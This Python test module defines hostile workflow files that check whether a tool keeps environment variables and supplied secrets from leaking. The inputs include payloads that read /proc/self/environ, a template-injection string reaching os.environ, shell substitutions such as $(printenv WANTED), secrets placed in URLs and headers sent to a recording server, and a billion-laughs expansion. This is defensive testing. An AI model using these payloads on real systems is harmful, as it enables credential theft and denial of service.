"""Workflow files that want secrets: of the environment, of other files, of their user.

Each attacks a promise of ``docs/explanation/security.md``. ``WANTED`` is a variable of the
environment that was not granted; ``API_KEY`` is given with ``--set``; ``URL`` is the address of a
server that writes down what it is sent.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import pairwise
from typing import Any


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileFile:
    """A file, what it attacks, and what must be seen."""

    name: str
    promise: str
    text: str
    seen: str = ""
    """An id or words of what is said; empty: the run ends as it likes."""
    code: int | None = None
    """The exit code of the run; None: any."""
    given: tuple[str, ...] = ()
    """Further arguments of the command."""
    others: dict[str, str] = field(default_factory=dict[str, str])
    """Files beside it."""


def flow(*nodes: str, more: str = "", head: str = "", edges: str = "") -> str:
    """Return a workflow file of some nodes, one behind the other."""
    names = [f"n{at}" for at in range(len(nodes))]
    listed = "".join(
        f"    - {{id: {name}, {node}}}\n" for name, node in zip(names, nodes, strict=True)
    )
    between = edges or "".join(
        f"    - {{from: {one}, to: {other}}}\n" for one, other in pairwise(names)
    )
    return f"{head}graph:\n  id: hostile\n{more}  start: [n0]\n  nodes:\n{listed}" + (
        f"  edges:\n{between}" if between else ""
    )


def says(text: str) -> str:
    """Return a node that says a text."""
    return f'type: literal, config: {{content: "{text}"}}'


def asks(**settings: str) -> str:
    """Return a node that asks a model at the server."""
    given = {
        "type": "openai",
        "name": "m",
        "base_url": "URL",
        "retry": "{max_tries: 1}",
        **settings,
    }
    inner = ", ".join(f"{key}: {value}" for key, value in given.items())
    return f"type: agent, config: {{model: {{{inner}}}}}"


def when(words: str) -> str:
    """Return an edge with a condition on words."""
    condition = f"{{type: keyword, config: {{{words}}}}}"
    return f"    - {{from: n0, to: n1, condition: {condition}}}\n"


ENVIRONMENT = "of the environment: a maker's usual key for the maker's own host, no other"
BOUNDS = "a workflow file: its size, its depth and its number of values"
SET = "a value of --set that fills a secret is in no journal, export, message or answer"
SCRIPTED = "type: agent, config: {model: {type: scripted, default: said}, PART}"
LOCAL = "'http://127.0.0.1:9/v1'"


def agent(part: str) -> str:
    """Return an agent with a further setting."""
    return SCRIPTED.replace("PART", part)


def _wants(name: str, text: str, seen: str = "AX138", **more: Any) -> HostileFile:
    code = 2 if seen == "AX138" else None
    more = {"promise": ENVIRONMENT, "seen": seen, "code": code, **more}
    return HostileFile(name=name, text=text, **more)


def _holds(name: str, text: str, seen: str = "", **more: Any) -> HostileFile:
    return HostileFile(name=name, promise=SET, text=text, seen=seen, **more)


INNER = "{id: n0, type: subgraph, config: {type: file, config: {path: inner.yaml}}}"
OUTER = f"graph:\n  id: outer\n  start: [n0]\n  nodes:\n    - {INNER}\n"
LAUGHS = "".join(f"  V{at}: '{f'${{V{at - 1}}}' * 10 if at else 'ha' * 50}'\n" for at in range(9))
CHAIN = "".join(f"  V{at}: ['${{V{at - 1}}}']\n" if at else "  V0: x\n" for at in range(400))

FILES: tuple[HostileFile, ...] = (
    # -- the environment
    _wants("a text", flow(says("${WANTED}"))),
    _wants("a part of a text", flow(says("x ${WANTED} y"))),
    _wants(
        "a name that is made of variables",
        flow(says("${${NAME}}"), head="vars: {NAME: WANTED}\n"),
        "",
    ),
    _wants(
        "a variable of the file that names it", flow(says("${A}"), head="vars: {A: '${WANTED}'}\n")
    ),
    _wants(
        "variables one behind the other",
        flow(says("${C}"), head="vars: {A: '${WANTED}', B: 'x${A}', C: '${B}'}\n"),
    ),
    _wants(
        "a variable of the same name",
        flow(says("${WANTED}"), head="vars: {WANTED: '${WANTED}'}\n"),
        "AX147",
    ),
    _wants("a list", flow(says("${A}"), head="vars: {A: ['${WANTED}']}\n")),
    _wants("instructions", flow(agent("instructions: 'Say ${WANTED}.'"))),
    _wants(
        "a scripted reply",
        flow("type: agent, config: {model: {type: scripted, default: '${WANTED}'}}"),
    ),
    _wants("a key that is a reference", flow(asks(api_key="{env: WANTED}"))),
    _wants("a key that is a placeholder", flow(asks(api_key="'${WANTED}'"))),
    _wants("a header", flow(asks(api_key="none", headers="{X-It: '${WANTED}'}"))),
    _wants("an address", flow(asks(api_key="none", base_url="'URL/${WANTED}'"))),
    _wants(
        "a password of an address",
        flow(asks(api_key="none", base_url="'http://me:${WANTED}@host.example/v1'")),
    ),
    _wants("the name of a model", flow(asks(api_key="none", name="'${WANTED}'"))),
    _wants("settings of a model", flow(asks(api_key="none", settings="{user: '${WANTED}'}"))),
    _wants(
        "a maker's key for another host",
        flow(asks(api_key="'${OPENAI_API_KEY}'")),
        "OPENAI_API_KEY",
        given=(),
    ),
    _wants(
        "a maker's key by reference for another host",
        flow(asks(api_key="{env: OPENAI_API_KEY}")),
        "OPENAI_API_KEY",
    ),
    _wants(
        "a maker's key in a header",
        flow(asks(api_key="none", headers="{X-It: '${OPENAI_API_KEY}'}")),
    ),
    _wants("a maker's key in a text", flow(says("${OPENAI_API_KEY}"))),
    _wants("a maker's key beside a letter", flow(asks(api_key="'x${OPENAI_API_KEY}'"))),
    _wants("a maker's key that is not named", flow(asks()), ""),
    _wants("a file that is included", OUTER, others={"inner.yaml": flow(says("${WANTED}"))}),
    _wants(
        "a file that is included, for a variable of the outer one",
        f"vars: {{A: '${{WANTED}}'}}\n{OUTER}",
        others={"inner.yaml": flow(says("${A}"))},
    ),
    _wants(
        "a template",
        flow("use: t", head="", more="").replace(
            "graph:", f"templates: {{nodes: {{t: {{{says('${WANTED}')}}}}}}}\ngraph:", 1
        ),
        "",
    ),
    _wants("a default of the state", flow(says("x"), more="  attributes: {a: '${WANTED}'}\n"), ""),
    _wants(
        "a condition",
        flow(
            says("x"),
            says("y"),
            edges=when("any: ['${WANTED}']"),
        ),
    ),
    _wants(
        "a server of tools",
        flow(agent("tools: [{type: mcp, name: m, url: 'URL', headers: {X-It: '${WANTED}'}}]")),
    ),
    _wants(
        "the environment of a server of tools",
        flow(agent("tools: [{type: mcp, name: m, command: [env], env: {IT: {env: WANTED}}}]")),
        "--allow",
    ),
    _wants(
        "the variables of the process as a memory",
        flow(agent("memories: [{type: file_memory, path: /proc/self/environ}]")),
        "AX137",
        code=2,
    ),
    _wants(
        "the variables of the process as a source",
        flow(agent("retrievers: [{type: keyword, paths: [/proc/self/environ]}]")),
        "AX137",
        code=2,
    ),
    _wants("the sign of a shell", flow(says("$WANTED $(printenv WANTED) %WANTED% `env`")), ""),
    _wants(
        "a prompt's own language",
        flow(agent("prompt_template: '{input.__class__.__init__.__globals__[os].environ}'")),
        "",
    ),
    _wants(
        "a DevAll file", "version: 0.4.0\nvars: {}\n" + flow(agent("instructions: '${WANTED}'"))
    ),
    _wants("a name with capitals and small letters", flow(says("${Wanted} ${wanted}")), "AX146"),
    # -- a secret that is given, and a file that would have it said
    _holds("said", flow(says("${API_KEY}"))),
    _holds(
        "said behind another",
        flow(says("x ${API_KEY} ${API_KEY}"), agent("instructions: '${API_KEY}'")),
    ),
    _holds(
        "through a variable without a name", flow(says("${A}"), head="vars: {A: '${API_KEY}'}\n")
    ),
    _holds("through two", flow(says("${B}"), head="vars: {A: ['${API_KEY}'], B: '${A}'}\n")),
    _holds("a setting that wants a number", flow(agent("max_turns: '${API_KEY}'"))),
    _holds("a setting that is not known", flow(agent("unknown: '${API_KEY}'"))),
    _holds("the name of a component", flow("type: '${API_KEY}'")),
    _holds(
        "the name of a condition",
        flow(says("x"), says("y"), edges="    - {from: n0, to: n1, condition: '${API_KEY}'}\n"),
    ),
    _holds(
        "the name of a model's adapter", flow("type: agent, config: {model: {type: '${API_KEY}'}}")
    ),
    _holds(
        "the id of a node",
        flow(says("x")).replace("n0", "'${API_KEY}'"),
    ),
    _holds(
        "the id of a graph",
        flow(says("x")).replace("hostile", "'${API_KEY}'"),
    ),
    _holds("an edge to nowhere", flow(says("x"), edges="    - {from: n0, to: '${API_KEY}'}\n")),
    _holds(
        "a description",
        flow(says("x") + ", description: '${API_KEY}'", more="  description: 'x ${API_KEY}'\n"),
    ),
    _holds(
        "a regular expression that is none",
        flow(
            says("x"),
            says("y"),
            edges=when("regex: ['(${API_KEY}']"),
        ),
    ),
    _holds(
        "a file that is not there",
        flow("type: subgraph, config: {type: file, config: {path: '${API_KEY}.yaml'}}"),
    ),
    _holds(
        "a path outside",
        flow(agent("memories: [{type: file_memory, path: '/etc/${API_KEY}'}]")),
        "AX137",
        code=2,
    ),
    _holds("an import", flow("type: '${API_KEY}:x'")),
    _holds("an address that is none", flow(asks(api_key="none", base_url="'http://[${API_KEY}/'"))),
    _holds(
        "a host that is not there",
        flow(asks(api_key="none", base_url="'http://x${API_KEY}.invalid/v1'")),
    ),
    _holds("a port", flow(asks(api_key="none", base_url="'http://127.0.0.1:${API_KEY}/v1'"))),
    _holds("a limit", flow(says("x"), more="  limits: {seconds: '${API_KEY}'}\n")),
    _holds("a requirement", flow(says("x"), head="requires: {'axil-${API_KEY}': '>=1'}\n")),
    _holds("a version", flow(says("x"), head="version: '${API_KEY}'\n")),
    _holds(
        "a field of the state",
        flow(says("x"), more="  state: {fields: {'${API_KEY}': {type: '${API_KEY}'}}}\n"),
    ),
    _holds("a question", flow("type: human, config: {description: 'Is it ${API_KEY}?'}")),
    _holds("a schema", flow(agent("output: {type: '${API_KEY}'}"))),
    # -- variables without bound
    HostileFile(
        name="variables that grow",
        promise=BOUNDS,
        text=flow(says("${V8}"), head=f"vars:\n{LAUGHS}"),
        seen="AX144",
        code=2,
    ),
    HostileFile(
        name="variables one inside another",
        promise=BOUNDS,
        text=flow(says("${V399}"), head=f"vars:\n{CHAIN}"),
        seen="AX1",
        code=2,
    ),
    HostileFile(
        name="variables in a circle",
        promise=BOUNDS,
        text=flow(says("${A}"), head="vars: {A: '${B}', B: '${C}', C: '${A}'}\n"),
        seen="AX147",
        code=2,
    ),
    HostileFile(
        name="thousands of unknown names",
        promise=BOUNDS,
        text=flow(says(" ".join(f"${{U{at}}}" for at in range(5_000)))),
        seen="AX146",
        code=2,
    ),
    HostileFile(
        name="signs that begin names", promise=BOUNDS, text=flow(says("${" * 50_000)), code=0
    ),
)
